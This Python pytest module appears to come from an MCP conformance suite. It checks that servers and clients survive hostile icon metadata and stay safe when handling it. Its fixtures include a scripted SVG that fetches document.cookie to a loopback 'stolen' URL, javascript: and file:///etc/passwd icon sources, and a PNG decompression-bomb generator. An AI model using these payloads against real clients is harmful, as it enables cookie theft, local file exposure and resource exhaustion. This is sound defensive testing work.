"""Icons: a server as a consumer of the icons of its client's ``clientInfo``; a client as the consumer of a server's.

The icon rows bind whoever consumes icons. A server meets icons only in the ``clientInfo`` of its
client (the ``initialize`` request; at 2026-07-28 the ``_meta`` clientInfo every request carries).
What it does with them inside (store, render, fetch) shows on no wire (docs/limits/063-*.md); what
does show is whether it goes on serving once they have arrived. Each test offers icons built to hurt
a careless consumer, then asks for something every server answers: a server that chokes on them
(no answer, a crash, a stall past the harness's bound) fails; refusing the request that carried them
is a defence, and passes.
"""

from __future__ import annotations

import base64
import struct
import zlib
from functools import cache
from typing import Any

import pytest

from conformance.harness.frames import BOTH_TRANSPORTS, CLIENT_INFO, initialize_params
from conformance.harness.pages import OTHER, Page, PageServer
from conformance.harness.peer import ImplementationTimeout, Peer
from conformance.harness.scripted_server import SERVER_INFO, ScriptedPeer, ScriptedServer, default_results
from conformance.harness.scripted_stdio import ScriptedStdio
from conformance.matrix.covers import for_req
from conformance.run.plugin import ClientRun
from conformance.test_tools import MODERN, RunClient, client_calls, script_tools, text_result

CLIENT_INFO_META = "io.modelcontextprotocol/clientInfo"
SCRIPTED_SVG = (
    b'<svg xmlns="http://www.w3.org/2000/svg" width="1" height="1" onload="alert(document.cookie)">'
    b'<script>fetch("http://127.0.0.1:9/?stolen="+document.cookie)</script>'
    b'<foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>'
)


def data_uri(mime: str, payload: bytes) -> str:
    return f"data:{mime};base64,{base64.b64encode(payload).decode('ascii')}"


#: Metadata a careless consumer would act on: unsafe schemes, credentials in the URL, a type that
#: lies about the bytes, bytes that are no base64, scripted SVG, nonsense sizes.
HOSTILE_ICONS: list[dict[str, Any]] = [
    {"src": "javascript:alert(document.cookie)", "mimeType": "image/png"},
    {"src": "file:///etc/passwd", "mimeType": "image/png", "sizes": ["48x48"]},
    {"src": "ws://127.0.0.1:9/icon", "mimeType": "image/webp"},
    {"src": "https://user:password@127.0.0.1:9/icon.png", "sizes": ["any"], "theme": "dark"},
    {"src": "http://127.0.0.1:9/icon.png?" + "a" * 4096, "mimeType": "text/html", "theme": "light"},
    {"src": data_uri("image/png", SCRIPTED_SVG), "mimeType": "image/png", "sizes": ["1x1"]},
    {"src": data_uri("image/svg+xml", SCRIPTED_SVG), "mimeType": "image/svg+xml", "sizes": ["any"]},
    {"src": "data:image/png;base64,!!!!not-base64!!!!", "mimeType": "image/png"},
    {"src": "data:", "mimeType": "", "sizes": ["", "-1x-1", "0x0", "NaNxNaN", "48x48x48"]},
]


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)


@cache
def png_bomb(side: int = 20_000) -> bytes:
    """A valid grey 1-bit PNG of ``side`` x ``side`` pixels (400 million at the default) whose image data,
    all zeros, compresses to a few tens of kilobytes: a decoder that allocates the pixels pays gigabytes."""
    row = b"\x00" * (1 + (side + 7) // 8)  # filter byte, then the packed row
    packer = zlib.compressobj(9)
    idat = b"".join(packer.compress(row * 1000) for _ in range(side // 1000)) + packer.flush()
    header = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", header) + _png_chunk(b"IDAT", idat) + _png_chunk(b"IEND", b"")


@cache
def gif_of_many_frames(frames: int = 3_000) -> bytes:
    """A 1x1 animated GIF of ``frames`` frames, each shown for 0 ms, looping forever."""
    head = b"GIF89a" + struct.pack("<HHBBB", 1, 1, 0x80, 0, 0) + b"\x00\x00\x00\xff\xff\xff"
    loop = b"\x21\xff\x0bNETSCAPE2.0\x03\x01\x00\x00\x00"
    control = b"\x21\xf9\x04\x00\x00\x00\x00\x00"  # no delay
    frame = control + b"\x2c" + struct.pack("<HHHHB", 0, 0, 1, 1, 0) + b"\x02\x02\x44\x01\x00"
    return head + loop + frame * frames + b"\x3b"


def exhausting_icons() -> list[dict[str, Any]]:
    """Icons crafted to exhaust a consumer: a decompression bomb, thousands of frames, sizes past any screen,
    and a long list of them."""
    bomb = data_uri("image/png", png_bomb())
    return [
        {"src": bomb, "mimeType": "image/png", "sizes": ["20000x20000"]},
        {"src": data_uri("image/gif", gif_of_many_frames()), "mimeType": "image/gif", "sizes": ["1x1"]},
        {"src": data_uri("image/png", png_bomb(1_000)), "sizes": ["4294967295x4294967295"]},
        *({"src": data_uri("image/svg+xml", SCRIPTED_SVG), "sizes": ["any"]} for _ in range(500)),
    ]


def offer_client_icons(peer: Peer, icons: list[dict[str, Any]]) -> dict | None:
    """The server's answer to the first request whose ``clientInfo`` carries ``icons``: ``initialize`` (the
    session then goes on as usual when it succeeds), or at 2026-07-28 ``server/discover``. None: the transport
    refused the request before any JSON-RPC answer (over HTTP, a status such as 413 for a body too large)."""
    client_info = {**CLIENT_INFO, "icons": icons}
    if peer.stateless:
        frame = peer.envelope("server/discover", peer.next_id(), {"_meta": {CLIENT_INFO_META: client_info}})
    else:
        params = {**initialize_params(peer.revision), "clientInfo": client_info}
        frame = {"jsonrpc": "2.0", "id": peer.next_id(), "method": "initialize", "params": params}
    peer.send_request(frame)
    try:
        response = peer.expect_response(frame["id"])
    except ImplementationTimeout:
        if peer.refusal_of(frame["id"]) is None:
            raise
        return None
    if not peer.stateless and "result" in response:
        peer.initialized, peer.client_capabilities = response["result"], {}
        if hasattr(peer, "negotiated_version"):  # Streamable HTTP: the version header of later requests
            peer.negotiated_version = response["result"].get("protocolVersion")
        peer.notify("notifications/initialized")
    return response


def assert_still_serving(peer: Peer, icons: list[dict[str, Any]], what: str) -> None:
    """The request carrying ``icons`` is answered (a result, or an error: refusing is a defence), and the
    server then answers the request every server answers."""
    answer = offer_client_icons(peer, icons)
    if answer is None:  # refused by the transport: the icons were not taken in; a new session must still be served
        peer.open()
    else:
        assert "result" in answer or "error" in answer, f"the request whose clientInfo carried {what} got {answer}"
        if "error" in answer:
            return  # refused: the icons were not taken in
    probe = peer.rpc(peer.probe_method, check=False)
    assert "result" in probe, f"after a clientInfo carrying {what}, {peer.probe_method} was answered {probe}"


@for_req("icons-untrusted-input", "server", transports=BOTH_TRANSPORTS)
def test_hostile_client_icon_metadata_leaves_the_server_serving(revision: str, transport: str, peer: Peer) -> None:
    assert_still_serving(peer, HOSTILE_ICONS, "icons with unsafe schemes, lying types and scripted SVG")


@for_req("icons-resource-exhaustion", "server", transports=BOTH_TRANSPORTS)
def test_client_icons_built_to_exhaust_leave_the_server_serving(revision: str, transport: str, peer: Peer) -> None:
    assert_still_serving(peer, exhausting_icons(), "a PNG decompression bomb, a 3000-frame GIF and 500 more icons")


# -- the client side: icons a server hands its client ---------------------------------------------------
#
# A client meets icons in what a server lists (here: the one tool of the scripted server's tools/list) and
# in the server's own ``serverInfo`` (the initialize result; at 2026-07-28 the server/discover result's
# ``_meta``). The SDK's client hands them to its application; a host may fetch and draw them. Each test
# lists icons built to hurt a careless consumer, then sees whether the client goes on: it calls the tool
# (the driver's ``call_each_tool``), or refuses the listing and tells its application so (a defence). A
# client that chokes on them (a crash, a stall past the harness's bound) fails.
#
# What a client fetches, and how (https or data only, no other origin, no credentials, no unsafe scheme,
# scripts in SVG never run), shows as requests to the page server: the tests at the end of this module.

ICONIC_TOOL = "iconic"
SERVER_INFO_META = "io.modelcontextprotocol/serverInfo"


def serving_icons(server: ScriptedPeer, icons: list[dict[str, Any]]) -> None:
    """The scripted server (HTTP or stdio) lists one tool bearing ``icons``, and bears them in its serverInfo."""
    entry = {"name": ICONIC_TOOL, "inputSchema": {"type": "object"}, "icons": icons}
    defaults = default_results(server.revision)
    info = SERVER_INFO | {"icons": icons}
    initialize = defaults["initialize"]({}) | {"serverInfo": info}
    discover = defaults["server/discover"]({})
    discover["_meta"] = {SERVER_INFO_META: info}
    if isinstance(server, ScriptedStdio):
        server.tools = [entry]
        server.results["tools/call"] = defaults["tools/call"]({}) | text_result(f"{ICONIC_TOOL} ran")
        if server.revision == MODERN:
            server.results["server/discover"] = discover
        else:
            server.results["initialize"] = initialize
        return
    assert isinstance(server, ScriptedServer)
    script_tools(server, [(entry, text_result(f"{ICONIC_TOOL} ran"))])
    server.answers |= {"initialize": lambda _: initialize, "server/discover": lambda _: discover}


def assert_goes_on(run: ClientRun, server: ScriptedServer, what: str) -> None:
    """After the listing bearing the icons, the client called the tool; or it told its application what it
    made of the listing without the tool (it refused the listing, or kept the tool back: defences). A
    client that reports a call of the tool the server never received, or reports nothing, stopped."""
    results = run.report("tool-results")
    kept_back = isinstance(results, dict) and ICONIC_TOOL not in results
    called = client_calls(server)
    assert ICONIC_TOOL in called or kept_back, (
        f"after a listing whose icons were {what}, the client called {called} and told its application {results}"
    )


@for_req("icons-untrusted-input", "client")
def test_hostile_icon_metadata_leaves_the_client_working(
    revision: str, run_client: RunClient, scripted_server: ScriptedServer
) -> None:
    serving_icons(scripted_server, HOSTILE_ICONS)
    run = run_client("call_each_tool")
    run.judge(lambda: assert_goes_on(run, scripted_server, "unsafe schemes, lying types and scripted SVG"))


@for_req("icons-resource-exhaustion", "client")
def test_icons_built_to_exhaust_leave_the_client_working(
    revision: str, run_client: RunClient, scripted_server: ScriptedServer
) -> None:
    serving_icons(scripted_server, exhausting_icons())
    run = run_client("call_each_tool")
    run.judge(lambda: assert_goes_on(run, scripted_server, "a PNG decompression bomb, a 3000-frame GIF and 500 more"))


CALLBACK_PATH = "/mcp-matrix/callback/svg-script"


def calling_back_svg(server: ScriptedServer) -> bytes:
    """An SVG icon whose scripts, if they ever run, request CALLBACK_PATH of the scripted server."""
    url = server.url.rsplit("/", 1)[0] + CALLBACK_PATH
    return (
        f'<svg xmlns="http://www.w3.org/2000/svg" width="16" height="16" onload="fetch(\'{url}?onload\')">'
        f"<script>fetch('{url}?script')</script>"
        '<rect width="16" height="16" fill="teal"/></svg>'
    ).encode()


@for_req("icons-svg-precautions-src", "client")
def test_no_script_in_an_svg_icon_runs(revision: str, run_client: RunClient, scripted_server: ScriptedServer) -> None:
    """The listing and serverInfo bear an SVG icon (a data: URI) whose scripts call back to the scripted
    server: no call back arrives, during the run or by its end. A client that draws no icon passes too:
    the row asks for precautions, and not drawing is one."""
    svg = data_uri("image/svg+xml", calling_back_svg(scripted_server))
    serving_icons(scripted_server, [{"src": svg, "mimeType": "image/svg+xml", "sizes": ["any"]}])
    run = run_client("call_each_tool")

    def check() -> None:
        called_back = [r.path for r in scripted_server.received if r.path.startswith(CALLBACK_PATH)]
        assert not called_back, f"the script of an SVG icon ran: it requested {called_back}"

    run.judge(check)


# -- the client side: what a client fetches of the icons it is handed --------------------------------------
#
# Each test below lists icons whose ``src`` points at the page server (harness/pages.py: a loopback listener
# apart from the MCP endpoint, another origin than the scripted server's, recording every request and every
# connection), in the tool listing and the serverInfo as above, and runs the driver's ``call_each_tool``, over
# both transports (over Streamable HTTP alone where the clause is about the server's origin, which a stdio
# server has none of). A breach is a request the client makes outside the MCP endpoint: it shows in the page
# server's record, read once the client's process has ended (so the bound waited for is the client's whole
# run, CLIENT_RUN_SECONDS at most, and no idle wait follows it). A client that fetches no icon at all passes
# where the clause forbids a fetch, or what a fetched icon does; where the clause is about how an icon is
# fetched, or about the bytes fetched, a client that fetched none leaves the cell fixture-missing. An
# ``https:`` src on the page server (plain HTTP) is an attempt that shows as a connection carrying a TLS
# handshake instead of a request.

CALLBACK = "/callback/"  # what a script or external reference inside a fetched icon requests


def tiny_png() -> bytes:
    """A valid 1x1 grey PNG."""
    header = struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0)
    idat = zlib.compress(b"\x00\x00")
    return b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", header) + _png_chunk(b"IDAT", idat) + _png_chunk(b"IEND", b"")


def on_pages(pages: PageServer, path: str, scheme: str = "http", host: str = "127.0.0.1") -> str:
    """The URL of ``path`` on the page server, as an icon src (``scheme`` and ``host`` as the test needs)."""
    port = pages.url.rsplit(":", 1)[1]
    return f"{scheme}://{host}:{port}{path}"


def arrivals(pages: PageServer) -> list[str]:
    """Everything that reached the page server, as evidence: each request, and each connection that carried
    none (its first bytes)."""
    shown = [f"{r.method} {r.path} on the {r.listener} listener" for r in pages.requests()]
    shown += [
        f"a connection to the {c.listener} listener beginning {c.began!r}" for c in pages.connections() if not c.http
    ]
    return shown


def run_with_icons(run_client: RunClient, server: ScriptedPeer, icons: list[dict[str, Any]]) -> ClientRun:
    serving_icons(server, icons)
    return run_client("call_each_tool")


@for_req("icons-https-or-data-uri", "client", transports=BOTH_TRANSPORTS)
def test_an_icon_over_plain_http_is_not_used(
    revision: str, transport: str, run_peer_client: RunClient, scripted_peer: ScriptedPeer, page_server: PageServer
) -> None:
    """The listing and serverInfo bear an icon whose src is plain ``http:`` (a real PNG on the page server): the
    client never fetches it, within its whole run. A client that fetches no icon at all passes: it used none."""
    path = "/icons/plain-http.png"
    page_server.pages[path] = Page(tiny_png(), "image/png")
    run = run_with_icons(
        run_peer_client, scripted_peer, [{"src": on_pages(page_server, path), "mimeType": "image/png"}]
    )

    def check() -> None:
        used = page_server.fetched(path)
        assert not used, f"the client fetched an icon over plain HTTP: {[f'{r.method} {r.path}' for r in used]}"

    run.judge(check)


@for_req("icons-reject-unsafe-schemes", "client", transports=BOTH_TRANSPORTS)
def test_icons_with_unsafe_schemes_are_refused(
    revision: str, transport: str, run_peer_client: RunClient, scripted_peer: ScriptedPeer, page_server: PageServer
) -> None:
    """Icons with ``ws:`` and ``ftp:`` srcs pointing at the page server, and two icons whose fetch redirects to
    such a URL: the client reaches none of the unsafe URLs (a WebSocket handshake for /icons/unsafe-*, or a
    connection that sends no HTTP request, as an FTP client that waits for a greeting does). What a client does
    with ``javascript:`` or ``file:`` srcs (HOSTILE_ICONS) leaves no request the harness can see."""
    unsafe = {"ws": "/icons/unsafe-ws", "ftp": "/icons/unsafe-ftp"}
    icons = [{"src": on_pages(page_server, path, scheme), "mimeType": "image/png"} for scheme, path in unsafe.items()]
    for scheme, path in unsafe.items():
        redirecting = f"/icons/redirect-to-{scheme}.png"
        target = on_pages(page_server, f"{path}-after-redirect", scheme)
        page_server.pages[redirecting] = Page(status=302, headers={"Location": target})
        icons.append({"src": on_pages(page_server, redirecting), "mimeType": "image/png"})
    run = run_with_icons(run_peer_client, scripted_peer, icons)

    def check() -> None:
        reached = [f"{r.method} {r.path}" for r in page_server.requests() if r.path.startswith("/icons/unsafe-")]
        reached += [f"a connection beginning {c.began!r}" for c in page_server.connections() if not c.http]
        assert not reached, f"the client went for icons with unsafe schemes (ws:, ftp:): {reached}"

    run.judge(check)


@for_req("icons-no-cross-origin-redirect", "client", transports=BOTH_TRANSPORTS)
def test_an_icon_redirect_to_another_origin_or_scheme_is_not_followed(
    revision: str, transport: str, run_peer_client: RunClient, scripted_peer: ScriptedPeer, page_server: PageServer
) -> None:
    """Two icons on the page server redirect, one to another origin (the page server's other listener), one to
    ``https:`` on the same host and port: a client that fetches them follows neither (nothing reaches the other
    listener; no TLS handshake reaches the first). A client that fetches neither icon meets no redirect to
    refuse: fixture-missing."""
    away, to_https = "/icons/moved-away.png", "/icons/moved-to-https.png"
    page_server.pages[away] = Page(status=302, headers={"Location": page_server.other_url + "/icons/landed.png"})
    landed_https = on_pages(page_server, "/icons/landed-https.png", "https")
    page_server.pages[to_https] = Page(status=302, headers={"Location": landed_https})
    icons = [{"src": on_pages(page_server, path), "mimeType": "image/png"} for path in (away, to_https)]
    run = run_with_icons(run_peer_client, scripted_peer, icons)

    def check() -> None:
        followed = [f"{r.method} {r.path}" for r in page_server.requests() if r.listener == OTHER]
        followed += [f"a TLS handshake ({c.began!r})" for c in page_server.connections() if not c.http]
        assert not followed, f"the client followed an icon's redirect to another origin or scheme: {followed}"
        if not (page_server.fetched(away) or page_server.fetched(to_https)):
            pytest.skip("fixture-missing: the client fetched none of the redirecting icons: no redirect to refuse")

    run.judge(check)


CREDENTIAL_HEADERS = ("cookie", "authorization", "proxy-authorization")


@for_req("icons-fetch-without-credentials", "client", transports=BOTH_TRANSPORTS)
def test_icons_are_fetched_without_credentials(
    revision: str, transport: str, run_peer_client: RunClient, scripted_peer: ScriptedPeer, page_server: PageServer
) -> None:
    """Two icons on the page server, the first answered with a cookie (``Set-Cookie``): every icon request the
    client makes carries no Cookie, Authorization or Proxy-Authorization header. A client that fetches no icon
    shows nothing of how it fetches: fixture-missing."""
    first, second = "/icons/first.png", "/icons/second.png"
    page_server.pages[first] = Page(tiny_png(), "image/png", headers={"Set-Cookie": "mcp-matrix-icon=secret; Path=/"})
    page_server.pages[second] = Page(tiny_png(), "image/png")
    icons = [{"src": on_pages(page_server, path), "mimeType": "image/png"} for path in (first, second)]
    run = run_with_icons(run_peer_client, scripted_peer, icons)

    def check() -> None:
        fetches = page_server.requests()
        credentialed = {
            f"{r.method} {r.path}": {h: r.headers[h] for h in CREDENTIAL_HEADERS if h in r.headers} for r in fetches
        }
        credentialed = {request: sent for request, sent in credentialed.items() if sent}
        assert not credentialed, f"the client fetched icons with credentials: {credentialed}"
        if not fetches:
            pytest.skip("fixture-missing: the client fetched no icon: how it fetches does not show")

    run.judge(check)


@for_req("icons-same-origin-as-server", "client")
def test_an_icon_of_another_origin_than_the_server_is_not_fetched(
    revision: str, run_client: RunClient, scripted_server: ScriptedServer, page_server: PageServer
) -> None:
    """The scripted server (http://127.0.0.1:<its port>) hands out an ``https:`` icon on the same host but
    another port (the page server): another origin. The client does not reach for it within its whole run
    (no request, no TLS handshake). A client that fetches no icon at all passes: it used none of another
    origin."""
    path = "/icons/elsewhere.png"
    run = run_with_icons(
        run_client, scripted_server, [{"src": on_pages(page_server, path, "https"), "mimeType": "image/png"}]
    )

    def check() -> None:
        reached = arrivals(page_server)
        assert not reached, (
            f"the client reached for an icon of another origin ({on_pages(page_server, path, 'https')}) than its "
            f"server's ({scripted_server.url}): {reached}"
        )

    run.judge(check)


@for_req("icons-trusted-origin-src", "client")
def test_an_icon_of_another_domain_is_not_fetched(
    revision: str, run_client: RunClient, scripted_server: ScriptedServer, page_server: PageServer
) -> None:
    """The scripted server (at 127.0.0.1) hands out an ``https:`` icon on another domain (``localhost``, which no
    client configuration here names as trusted): the client does not reach for it within its whole run. A client
    that fetches no icon at all passes."""
    src = on_pages(page_server, "/icons/other-domain.png", "https", "localhost")
    run = run_with_icons(run_client, scripted_server, [{"src": src, "mimeType": "image/png"}])

    def check() -> None:
        reached = arrivals(page_server)
        assert not reached, f"the client reached for an icon of a domain it has no reason to trust ({src}): {reached}"

    run.judge(check)


def called_back(pages: PageServer) -> list[str]:
    return [f"{r.method} {r.path}" for r in pages.requests() if r.path.startswith(CALLBACK)]


@for_req("icons-executable-content-caution", "client", transports=BOTH_TRANSPORTS)
def test_the_scripts_and_references_of_a_fetched_svg_icon_stay_inert(
    revision: str, transport: str, run_peer_client: RunClient, scripted_peer: ScriptedPeer, page_server: PageServer
) -> None:
    """An SVG icon served over the network (image/svg+xml) carries an onload handler, a script, a foreignObject
    with an iframe, and an external image: none of them calls back to the page server within the client's whole
    run. A client that fetches or draws no icon runs nothing and passes."""
    path = "/icons/scripted.svg"
    back = page_server.url + CALLBACK
    page_server.pages[path] = Page(
        (
            f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="16" '
            f"height=\"16\" onload=\"fetch('{back}onload')\"><script>fetch('{back}script')</script>"
            f'<foreignObject width="16" height="16"><iframe xmlns="http://www.w3.org/1999/xhtml" src="{back}iframe"/>'
            f'</foreignObject><image href="{back}image" width="16" height="16"/></svg>'
        ).encode(),
        "image/svg+xml",
    )
    run = run_with_icons(
        run_peer_client, scripted_peer, [{"src": on_pages(page_server, path), "mimeType": "image/svg+xml"}]
    )

    def check() -> None:
        ran = called_back(page_server)
        assert not ran, f"the content of an SVG icon ran or loaded what it references: it requested {ran}"

    run.judge(check)


@for_req("icons-verify-content-type", "client", transports=BOTH_TRANSPORTS)
def test_an_icon_whose_bytes_belie_its_type_is_not_rendered(
    revision: str, transport: str, run_peer_client: RunClient, scripted_peer: ScriptedPeer, page_server: PageServer
) -> None:
    """An icon declared and served as ``image/png`` whose bytes are a scripted SVG: a client that judged the type
    by the bytes refuses it (the types disagree), and one that trusted the declared type fails to decode it; only
    a client that renders it by what the bytes turn out to be runs its script, which calls back. The cell needs
    the icon fetched: a client that fetches no icon leaves it fixture-missing."""
    path = "/icons/lying.png"
    back = page_server.url + CALLBACK
    svg = (
        f'<svg xmlns="http://www.w3.org/2000/svg" width="16" height="16" onload="fetch(\'{back}onload\')">'
        f"<script>fetch('{back}lying-icon')</script></svg>"
    )
    page_server.pages[path] = Page(svg.encode(), "image/png")
    run = run_with_icons(
        run_peer_client, scripted_peer, [{"src": on_pages(page_server, path), "mimeType": "image/png"}]
    )

    def check() -> None:
        ran = called_back(page_server)
        assert not ran, f"an icon served as image/png whose bytes are SVG was rendered as SVG: it requested {ran}"
        if not page_server.fetched(path):
            pytest.skip("fixture-missing: the client fetched no icon: no bytes to check against a type")

    run.judge(check)


@for_req("icons-image-type-allowlist", "client", transports=BOTH_TRANSPORTS)
def test_an_icon_that_is_no_image_is_not_rendered(
    revision: str, transport: str, run_peer_client: RunClient, scripted_peer: ScriptedPeer, page_server: PageServer
) -> None:
    """An icon declared and served as ``text/html``, an HTML page whose script and image call back: no image type
    any allowlist holds, so a client renders it not at all, and nothing calls back within its whole run. A client
    that refuses it unfetched, or fetches no icon, passes: it rendered nothing off a list."""
    path = "/icons/page.html"
    back = page_server.url + CALLBACK
    page = f"<!doctype html><script>fetch('{back}html-script')</script><img src='{back}html-image'>"
    page_server.pages[path] = Page(page.encode(), "text/html")
    run = run_with_icons(
        run_peer_client, scripted_peer, [{"src": on_pages(page_server, path), "mimeType": "text/html"}]
    )

    def check() -> None:
        ran = called_back(page_server)
        assert not ran, f"an HTML page given as an icon was rendered: it requested {ran}"

    run.judge(check)
